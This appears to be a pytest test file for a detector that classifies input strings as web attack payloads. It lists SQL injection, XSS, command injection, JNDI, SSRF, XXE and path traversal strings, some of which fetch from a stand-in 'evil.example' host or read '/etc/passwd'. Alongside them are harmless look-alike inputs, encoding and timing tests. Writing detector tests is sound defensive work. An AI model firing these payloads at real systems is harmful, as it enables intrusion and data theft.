import time
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vedette.hunt.patterns.payloads import judge_payload

ATTACKS = {
    "SQL injection": (
        "1' or '1'='1",
        "1 or 1=1",
        "-1 union select null,version(),3-- -",
        "1';waitfor delay '0:0:5'--",
        "admin'--",
        "1) and sleep(5)#",
        "1 order by 12",
        "1'||(select password from users limit 1)||'",
        "1/**/union/**/select/**/1,2,3",
        "1 /*!50000union*/ /*!50000select*/ 1,2,3",
    ),
    "cross-site scripting": (
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>',
        "<svg/onload=alert(1)>",
        "javascript:alert(document.cookie)",
        "';alert(1)//",
        '" onmouseover="alert(1)',
        "<iframe src=//evil.example>",
    ),
    "path traversal": (
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "....//....//....//etc/passwd",
        "/etc/shadow",
        "..;/..;/..;/manager/html",
    ),
    "command injection": (
        "127.0.0.1; cat /etc/passwd",
        "x|whoami",
        "$(curl http://evil.example/a)",
        "`id`",
        "a && wget http://evil.example/x",
        "() { :;}; /bin/bash -c id",
        "x;c'a't /etc/passwd",
    ),
    "template injection": ("{{7*7}}", "${7*7}", "{{''.__class__.__mro__[1]}}", "<%= 7*7 %>"),
    "JNDI lookup": ("${jndi:ldap://evil.example/a}", "${${lower:j}n${::-d}i:ldap://evil.example/a}"),
    "code injection": (
        "<?php system('id');?>",
        "class.module.classLoader.resources",
        "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT)}",
    ),
    "server-side request forgery": (
        "http://169.254.169.254/latest/meta-data/",
        "http://2130706433/",
        "http://0x7f.1/",
        "gopher://127.0.0.1:6379/_",
        "http://[::ffff:127.0.0.1]/",
    ),
    "file inclusion": ("php://filter/convert.base64-encode/resource=index", "http://203.0.113.7/shell?"),
    "XML external entity": ('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',),
    "NoSQL injection": ('{"user": {"$ne": null}}',),
    "LDAP injection": ("*)(uid=*))(|(uid=*",),
}
HARMLESS = (
    "O'Brien",
    "it's 5 o'clock",
    "select a plan from the list",
    "Western Union select hotels",
    "drop table lamp",
    "rock'n'roll and more",
    "5 > 3 and 2 < 4",
    "a < b and c > d",
    "C++ & C#",
    "salt & pepper; cat",
    "R&D|QA",
    "name;id",
    "order by phone",
    "group by age",
    "2 or 3 rooms",
    "1 and 1/2 inches",
    ('necklace 16" or 18"'),
    ('"WOOD" AND "SIGN"'),
    "<b>bold</b> and <a href='/x'>link</a>",
    "alert level (high)",
    "on sale = now",
    "{{name}}",
    "${user}",
    "../readme",
    "docs/guide.html",
    "http://localhost:3000/callback",
    "https://example.com/a?b=c",
    "user@example.com",
    "C:\\Program Files",
    "price between 10 and 20",
    "where is waldo",
    "like a rolling stone",
    "title:foo AND year=2020",
    "status = 1 and type = 2",
    "if all else fails call grandma",
    "1--",
    "admin",
    "",
    "    ",
    "100%",
    "#1",
    "--",
    "'",
    ('"'),
    ";",
    "(1)",
    "a'b'c",
    "Please select pair #1",
    "The script for the play",
    "50% off; today only",
    "1,2,3",
    "-1",
    "1e9",
    "0x41",
    "eyJhbGciOiJIUzI1NiJ9",
    "dGhlIHF1aWNrIGJyb3duIGZveA==",
    "the cat sat | the dog ran",
)


@pytest.mark.parametrize(
    ("kind", "text"), [(kind, text) for kind, texts in ATTACKS.items() for text in texts]
)
def test_an_attack_is_named_for_what_it_tries(kind: str, text: str) -> None:
    found = judge_payload(text)
    assert found is not None
    assert found.kind == kind
    assert found.score >= 1
    assert found.why


@pytest.mark.parametrize("text", HARMLESS)
def test_what_people_write_is_no_attack(text: str) -> None:
    assert judge_payload(text) is None
    assert judge_payload(quote(text)) is None


@pytest.mark.parametrize(
    ("text", "layers"),
    [
        ("%3Cscript%3Ealert(1)%3C/script%3E", ("percent-encoding",)),
        ("%253Cscript%253Ealert(1)", ("percent-encoding", "percent-encoding")),
        ("&lt;script&gt;alert(1)", ("HTML entities",)),
        ("\\u003cscript\\u003ealert(1)", ("escapes",)),
        ("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", ("base64",)),
        ("..%c0%af..%c0%af..%c0%afetc/passwd", ("percent-encoding",)),
        ("1+or+1=1", ("plus for space",)),
        ("\uff1cscript\uff1ealert(1)", ("invisible or wide characters",)),
    ],
)
def test_an_attack_is_seen_behind_encodings(text: str, layers: tuple[str, ...]) -> None:
    found = judge_payload(text)
    assert found is not None
    assert found.layers == layers


@given(st.text(max_size=400))
def test_any_text_gets_an_answer(text: str) -> None:
    found = judge_payload(text)
    assert found is None or found.score >= 1


@given(st.text(alphabet=st.sampled_from("abcdefghijklmnopqrstuvwxyz0123456789 .,-_@"), max_size=200))
def test_letters_digits_and_dots_are_never_an_attack_but_for_words_of_sql(text: str) -> None:
    found = judge_payload(text)
    assert found is None or found.kind == "SQL injection"


@pytest.mark.parametrize(
    "piece",
    ["<a ", "'(", "${", "((((select ", "case when ", "../", "%25", "&lt;", "{{", "' or ", "/*", "\\u003c"],
)
def test_no_repetition_takes_long(piece: str) -> None:
    began = time.process_time()
    judge_payload(piece * 6_000)
    assert time.process_time() - began < 1


@pytest.mark.parametrize(
    "text",
    [
        f";cat{' ' * 2_000}z",
        f"{';' * 900}url({' ' * 3_000}",
        "\n" * 4_000,
        f"src={' ' * 3_900}",
        f";cat{' +,<' * 500}z",
    ],
    ids=["argument", "style", "lines", "attribute", "mixed"],
)
def test_no_run_of_blanks_takes_long(text: str) -> None:
    began = time.process_time()
    judge_payload(text)
    assert time.process_time() - began < 2
